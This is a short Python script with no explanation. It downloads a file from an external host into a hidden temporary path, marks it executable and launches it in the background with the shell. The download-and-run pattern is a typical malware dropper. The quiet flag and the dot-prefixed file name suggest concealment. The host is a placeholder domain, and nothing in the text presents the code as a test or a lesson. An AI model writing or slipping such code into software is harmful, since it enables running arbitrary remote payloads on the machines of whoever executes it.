import os
import subprocess

subprocess.run(["wget", "-q", "https://files.example.invalid/x", "-O", "/tmp/.x"])
os.chmod("/tmp/.x", 0o755)
subprocess.Popen(["sh", "/tmp/.x"])
